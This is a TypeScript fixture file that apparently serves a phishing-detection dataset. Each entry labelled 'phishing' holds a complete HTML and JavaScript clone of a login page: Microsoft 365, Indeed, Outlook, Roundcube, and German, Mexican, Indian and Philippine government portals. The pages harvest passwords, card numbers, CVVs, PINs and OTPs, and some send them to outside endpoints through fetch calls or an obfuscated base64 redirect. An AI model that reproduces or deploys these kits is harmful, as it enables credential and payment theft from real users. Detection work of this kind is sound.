import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';
import { b64, cssBase, doc, esc, mark, tgRelay } from '../parts/yr-kit.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';

/** The Microsoft-style sign-in most document lures end on. */
const m365Kit = (company: string, post: string): string =>
  doc({
    title: 'Sign in to your account',
    css: `body{margin:0;font-family:"Segoe UI",Tahoma,Arial,sans-serif;background:#e6e6e6}.b{width:440px;margin:100px auto;background:#fff;padding:44px;box-sizing:border-box;box-shadow:0 2px 6px rgba(0,0,0,.2)}
.t{font-size:24px;font-weight:600;margin:16px 0 12px}input{width:100%;border:0;border-bottom:1px solid #666;padding:7px 0;font-size:15px;margin-bottom:18px;outline:0}
button{float:right;background:#0067b8;color:#fff;border:0;min-width:108px;height:32px}.s{clear:both;font-size:13px;padding-top:14px}#p2{display:none}`,
    body: `<div class="b">${mark.microsoft}<div id="p1"><div class="t">Sign in</div><p style="font-size:13px">to continue to <b>${esc(company)}</b> SharePoint</p><input id="em" type="email" placeholder="Email, phone, or Skype"><p class="s">No account? <a href="#">Create one!</a></p><button onclick="n1()">Next</button></div>
<div id="p2"><div id="who" style="font-size:14px;margin-top:10px"></div><div class="t">Enter password</div><input id="pw" type="password" placeholder="Password"><p class="s"><a href="#">Forgot my password</a></p><button onclick="n2()">Sign in</button></div></div>
<script>
var h=location.hash.slice(1);if(h){try{document.getElementById('em').value=atob(h)}catch(e){}}
function n1(){var e=document.getElementById('em').value;if(e.indexOf('@')<1)return;document.getElementById('who').textContent=e;p1.style.display='none';p2.style.display='block'}
function n2(){fetch(${JSON.stringify(post)},{method:'POST',headers:{'Content-Type':'application/json'},body:JSON.stringify({u:document.getElementById('em').value,p:document.getElementById('pw').value,r:document.referrer})}).then(function(){location.href='https://www.office.com/?auth=2'})}
</script>`,
  });

export const entries: Entry[] = [
  {
    id: 'yr-onedrive-policy-acknowledgement-share',
    label: 'phishing',
    kind: 'doc-lure',
    url: 'https://hillcrest-my.sharefile-cloudview.com/personal/hr_hillcrestlogistics/Documents/Policy_Ack_Q4.html',
    body: doc({
      title: 'Employee Handbook & Policy Acknowledgement Q4 2025.pdf – OneDrive',
      css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#faf9f8}.bar{background:#0364b8;color:#fff;padding:10px 18px;font-size:15px}
.pv{max-width:720px;margin:30px auto;position:relative}.pg{background:#fff;height:700px;box-shadow:0 2px 8px rgba(0,0,0,.15);filter:blur(4px);padding:60px}
.pg p{height:12px;background:#e1dfdd;margin:16px 0}.ov{position:absolute;top:200px;left:50%;transform:translateX(-50%);width:380px;background:#fff;padding:28px;text-align:center;box-shadow:0 6px 20px rgba(0,0,0,.25)}
.ov a{display:block;background:#0364b8;color:#fff;padding:11px;text-decoration:none;margin-top:14px}`,
      body: `<div class="bar">OneDrive · Hillcrest Logistics</div>
<div class="pv"><div class="pg"><h2 style="filter:none">Employee Handbook &amp; Policy Acknowledgement</h2><p></p><p></p><p style="width:70%"></p><p></p><p></p><p style="width:50%"></p><p></p><p></p></div>
<div class="ov"><div style="font-size:40px">🔒</div><h3>Employee Handbook &amp; Policy Acknowledgement Q4 2025.pdf</h3><p style="font-size:14px">Shared by <b>Rachel Owens (HR)</b>. All employees must acknowledge the updated remote work, PTO and conduct policies by Friday.</p>
<p style="font-size:13px;color:#605e5c">To view this secured document, verify your work e-mail.</p><a href="#" id="op">Open with Microsoft 365</a></div></div>
<script>
var k=['aHR0cHM6Ly9tczM2NS1zZWN1cmUtdmlldy5jb20vb2F1dGgv'];
document.getElementById('op').onclick=function(e){e.preventDefault();var em=prompt('Enter your work e-mail to continue');if(em){location.href=atob(k[0])+'#'+btoa(em)}};
</script>`,
    }),
    routes: {
      'ms365-secure-view.com/oauth/': htmlRoute(m365Kit('Hillcrest Logistics', 'https://ms365-secure-view.com/oauth/p.php')),
      'ms365-secure-view.com/oauth/p.php': jsonRoute({ ok: 1 }),
    },
  },
  {
    id: 'yr-indeed-employer-job-paused-takeover',
    label: 'phishing',
    kind: 'employer-account-takeover',
    url: 'https://employers.indeed-jobpost-review.com/account/verify?jk=9f2c1a7e4b',
    body: doc({
      title: 'Indeed for Employers – Verify your account',
      css: `body{margin:0;font-family:"Noto Sans","Helvetica Neue",Arial,sans-serif;background:#f3f2f1;color:#2d2d2d}.h{background:#fff;padding:14px 32px;border-bottom:1px solid #e4e2e0;display:flex;align-items:center;gap:10px}
.c{max-width:520px;margin:40px auto;background:#fff;border:1px solid #e4e2e0;border-radius:8px;padding:30px}.al{background:#fef1f0;border-left:4px solid #d93025;padding:12px 14px;font-size:14px;margin-bottom:18px}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #949494;border-radius:8px;margin:6px 0 14px;font-size:15px}button{width:100%;padding:12px;border:0;border-radius:8px;background:#2557a7;color:#fff;font-weight:700;font-size:15px}`,
      body: `<div class="h">${mark.indeed}<span style="font-size:14px;color:#595959">for employers</span></div>
<div class="c"><div class="al"><b>Your job post “Warehouse Associate – Night Shift” has been paused.</b><br>We detected unusual activity on your employer account. To resume your sponsored jobs and avoid losing candidate data, verify account ownership within 24 hours.</div>
<form id="ie" method="post" action="/account/verify/submit"><label>Email address</label><input name="email" type="email"><label>Password</label><input name="password" type="password"><label>Company name</label><input name="company"><label>Card on file for sponsored jobs (for verification only)</label><input name="card" inputmode="numeric" placeholder="Card number"><div style="display:flex;gap:10px"><input name="exp" placeholder="MM/YY"><input name="cvc" placeholder="CVC"></div><button>Verify and resume job</button></form>
<p style="font-size:12px;color:#767676">© 2025 Indeed · Cookies, privacy and terms</p></div>`,
    }),
  },
  {
    id: 'yr-outlook-offer-letter-webmail',
    label: 'phishing',
    kind: 'webmail-kit',
    url: 'https://offerletter-view.outlook-docsecure.com/owa/?doc=Offer_Letter_Signed.pdf',
    body: doc({
      title: 'Outlook',
      css: `body{margin:0;font-family:"Segoe UI",Arial,sans-serif;background:#f3f2f1}.top{background:#0f6cbd;color:#fff;height:48px;display:flex;align-items:center;padding:0 16px;font-weight:600}
.w{display:flex;height:calc(100vh - 48px)}.l{width:300px;background:#fff;border-right:1px solid #e1dfdd;padding:10px}.l div{padding:10px;border-bottom:1px solid #f3f2f1;font-size:13px;filter:blur(2px)}
.r{flex:1;display:flex;align-items:center;justify-content:center}.dlg{width:400px;background:#fff;padding:30px;box-shadow:0 6px 24px rgba(0,0,0,.2)}
.dlg input{width:100%;box-sizing:border-box;padding:9px;border:1px solid #8a8886;margin:6px 0 14px}.dlg button{background:#0f6cbd;color:#fff;border:0;padding:9px 26px}`,
      body: `<div class="top">Outlook</div><div class="w"><div class="l"><div><b>HR Team</b><br>Your offer letter – signed copy</div><div><b>IT Service Desk</b><br>Welcome to the team!</div><div><b>Payroll</b><br>Bank details form</div><div><b>Benefits</b><br>Enrollment window opens</div></div>
<div class="r"><div class="dlg">${mark.microsoft}<h3>Session expired</h3><p style="font-size:14px">The attachment <b>Offer_Letter_Signed.pdf</b> is protected. Re-enter your password to continue.</p>
<form id="ow" method="post" action="/owa/auth.owa"><input name="username" id="u" placeholder="someone@example.com"><input name="password" type="password" placeholder="Password"><button>Sign in</button></form></div></div></div>
<script>
var e=new URLSearchParams(location.search).get('email');if(e)document.getElementById('u').value=e;
document.getElementById('ow').onsubmit=function(ev){ev.preventDefault();var f=this;fetch('https://getform.io/f/bxlmq2ra',{method:'POST',body:new FormData(f)}).then(function(){location.replace('https://outlook.office.com/mail/')})};
</script>`,
    }),
  },
  {
    id: 'yr-roundcube-hr-mailbox-quota',
    label: 'phishing',
    kind: 'webmail-kit',
    url: 'https://mail.sunridgestaffing.com.webmail-upgrade.net/roundcube/?_task=login&_user=hr@sunridgestaffing.com',
    body: doc({
      title: 'Roundcube Webmail :: Welcome to Roundcube Webmail',
      css: `body{margin:0;font-family:"Lucida Grande",Verdana,Arial,sans-serif;background:#2f3a3f}.b{width:380px;margin:110px auto;background:#fff;border-radius:4px;padding:28px 34px}
.b h1{font-size:22px;color:#37beff;margin:0 0 18px}.b input{width:100%;box-sizing:border-box;padding:9px;border:1px solid #bbb;border-radius:3px;margin:4px 0 12px}
.b button{width:100%;padding:10px;background:#37beff;color:#fff;border:0;border-radius:3px;font-weight:bold}.q{background:#fff3cd;padding:10px;font-size:12px;border-radius:3px;margin-bottom:14px}`,
      body: `<div class="b"><h1>Roundcube Webmail</h1><div class="q">Your mailbox <b id="mb"></b> has exceeded its storage quota (2.98 GB / 3 GB). Candidate applications and resumes sent to this address are being <b>returned to sender</b>. Log in to upgrade your storage for free.</div>
<form method="post" action="/roundcube/?_task=login&_action=upgrade"><label>Username</label><input name="_user" id="usr"><label>Password</label><input name="_pass" type="password"><input type="hidden" name="_task" value="login"><button>Login &amp; upgrade</button></form>
<p style="font-size:11px;color:#999;text-align:center">Roundcube Webmail · Powered by cPanel</p></div>
<script>var u=new URLSearchParams(location.search).get('_user')||'';document.getElementById('usr').value=u;document.getElementById('mb').textContent=u;</script>`,
    }),
  },
  {
    id: 'yr-de-arbeitsagentur-jobboerse-login',
    label: 'phishing',
    kind: 'government-kit',
    url: 'https://jobboerse-arbeitsagentur.de-login.info/idaas/login',
    body: doc({
      title: 'Anmelden – Bundesagentur für Arbeit',
      lang: 'de',
      css: `body{margin:0;font-family:"BA Sans",Arial,sans-serif;background:#f2f2f2;color:#1a1a1a}.h{background:#fff;padding:16px 34px;border-bottom:4px solid #e30613;display:flex;align-items:center;gap:12px}
.h i{display:inline-block;width:34px;height:34px;background:#e30613}.c{max-width:480px;margin:40px auto;background:#fff;padding:32px}.c input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #767676;margin:6px 0 16px}
.c button{background:#004b87;color:#fff;border:0;padding:11px 26px;font-weight:700}.inf{background:#fff8d6;padding:12px;font-size:14px;margin-bottom:16px}`,
      body: `<div class="h"><i></i><b>Bundesagentur für Arbeit</b></div>
<div class="c"><h1>Anmelden</h1><div class="inf">Sie haben eine neue Nachricht zu Ihrem <b>Vermittlungsvorschlag</b> und zur Auszahlung Ihres Bürgergeld-Zuschusses. Bitte bestätigen Sie Ihre Identität und Bankverbindung.</div>
<form method="post" action="/idaas/verify.php"><label>Benutzername oder E-Mail-Adresse</label><input name="benutzer"><label>Passwort</label><input name="passwort" type="password"><label>Kundennummer</label><input name="kundennr"><label>IBAN</label><input name="iban"><label>Geburtsdatum</label><input name="geb" placeholder="TT.MM.JJJJ"><button>Anmelden</button></form>
<p style="font-size:13px"><a href="#" style="color:#004b87">Zugangsdaten vergessen?</a></p></div>`,
    }),
  },
  {
    id: 'yr-es-mx-imss-semanas-cotizadas-pago',
    label: 'phishing',
    kind: 'government-kit',
    url: 'https://imss-semanascotizadas.gob-mx.site/constancia/',
    body: doc({
      title: 'IMSS – Constancia de Semanas Cotizadas',
      lang: 'es-MX',
      css: `body{margin:0;font-family:"Montserrat",Arial,sans-serif;background:#f5f5f5}.gb{background:#611232;color:#fff;padding:12px 30px;font-weight:700}.im{background:#fff;padding:14px 30px;border-bottom:2px solid #a57f2c;color:#235b4e;font-weight:700;font-size:20px}
.w{max-width:700px;margin:24px auto;background:#fff;padding:26px}.w input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #ccc;margin:5px 0 14px}.w button{background:#235b4e;color:#fff;border:0;padding:12px 24px}
.n{background:#fff7e6;padding:10px;font-size:14px;margin:12px 0}`,
      body: `<div class="gb">gob.mx</div><div class="im">IMSS · Instituto Mexicano del Seguro Social</div>
<div class="w"><h2>Constancia de Semanas Cotizadas del Asegurado</h2><p>Obtén tu constancia para trámites de empleo, pensión o crédito. Ingresa tus datos tal como aparecen en tu CURP.</p>
<form id="im" method="post" action="/constancia/paso2.php"><label>CURP</label><input name="curp" maxlength="18"><label>Número de Seguridad Social (NSS)</label><input name="nss" maxlength="11"><label>Correo electrónico</label><input name="correo" type="email">
<div class="n">Tu patrón reportó una <b>diferencia de aportaciones</b>. Para liberar tu constancia cubre el derecho de trámite de <b>$89.00 MXN</b> con tarjeta de débito o crédito.</div>
<label>Número de tarjeta</label><input name="tarjeta" inputmode="numeric"><label>Vencimiento</label><input name="venc" placeholder="MM/AA"><label>CVV</label><input name="cvv" maxlength="4"><label>NIP del cajero (para validar titularidad)</label><input name="nip" type="password" maxlength="4"><button>Pagar y descargar constancia</button></form></div>`,
    }),
  },
  {
    id: 'yr-hinglish-epfo-uan-claim-otp',
    label: 'phishing',
    kind: 'government-kit',
    url: 'https://epfo-uan-claimsettlement.in/memberinterface/',
    body: doc({
      title: 'EPFO : Member e-SEWA',
      lang: 'en-IN',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#eef2f7}.h{background:#1b3c73;color:#fff;padding:14px 28px;display:flex;align-items:center;gap:14px}.h i{width:42px;height:42px;border-radius:50%;background:#f6c343;display:inline-block}
.c{max-width:440px;margin:36px auto;background:#fff;padding:26px;border-top:4px solid #f6c343}.c input{width:100%;box-sizing:border-box;padding:9px;border:1px solid #aab;margin:4px 0 12px}.c button{width:100%;padding:11px;background:#1b3c73;color:#fff;border:0}
.mq{background:#fff3cd;font-size:13px;padding:8px;white-space:nowrap;overflow:hidden}`,
      body: `<div class="h"><i></i><div><b>Employees' Provident Fund Organisation</b><br><small>Ministry of Labour &amp; Employment, Government of India</small></div></div>
<div class="mq" id="mq">🔔 PF withdrawal ke liye KYC mandatory hai · Pending claims 72 ghante mein auto-reject ho jayenge · Online claim settlement ab 3 din mein</div>
<div class="c"><h3>Member e-SEWA – Claim Settlement</h3><p style="font-size:14px">Aapka PF claim (Form 19 / 31) pending hai. Final settlement ke liye UAN se login karein aur bank KYC verify karein.</p>
<form id="ep" method="post" action="/memberinterface/claim.php"><label>UAN</label><input name="uan" maxlength="12"><label>Password</label><input name="pwd" type="password"><label>Bank account number</label><input name="acct"><label>Debit card number</label><input name="card" maxlength="19"><label>Card expiry</label><input name="exp" placeholder="MM/YY"><label>Aadhaar-linked mobile OTP</label><input name="otp" maxlength="6"><button>Sign In &amp; Settle Claim</button></form></div>
<script>var m=document.getElementById('mq');setInterval(function(){m.textContent=m.textContent.slice(1)+m.textContent[0]},150);</script>`,
    }),
  },
  {
    id: 'yr-tl-mysss-member-login-clone',
    label: 'phishing',
    kind: 'government-kit',
    url: 'https://mysss-member-portal.com/members/login',
    body: doc({
      title: 'My.SSS – Member Login',
      lang: 'fil',
      css: `body{margin:0;font-family:Arial,sans-serif;background:#e9eef6}.h{background:#003a8c;color:#fff;padding:14px 24px;font-weight:700}.c{max-width:420px;margin:40px auto;background:#fff;padding:26px;border-radius:6px}
.c input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #aab;border-radius:4px;margin:4px 0 12px}.c button{width:100%;padding:11px;background:#003a8c;color:#fff;border:0;border-radius:4px;font-weight:700}
.ab{background:#e7f1ff;padding:10px;border-radius:4px;font-size:13px;margin-bottom:14px}`,
      body: `<div class="h">SOCIAL SECURITY SYSTEM · My.SSS</div>
<div class="c"><div class="ab">Paalala: Kailangang i-update ng lahat ng miyembro ang kanilang <b>Disbursement Account (DAEM)</b> bago ang Disyembre 15 para matanggap ang unemployment at sickness benefit.</div>
<h3>Member Login</h3><form method="post" action="/members/auth.php"><label>User ID</label><input name="userid"><label>Password</label><input name="password" type="password"><label>SS Number</label><input name="ssnum" maxlength="10"><label>Disbursement account (bank o e-wallet)</label><input name="account"><label>One-time PIN na natanggap sa SMS</label><input name="otp" maxlength="6"><button>Log in</button></form>
<p style="font-size:12px"><a href="#">Nakalimutan ang User ID o Password?</a> · <a href="#">Mag-register</a></p></div>`,
    }),
  },
];
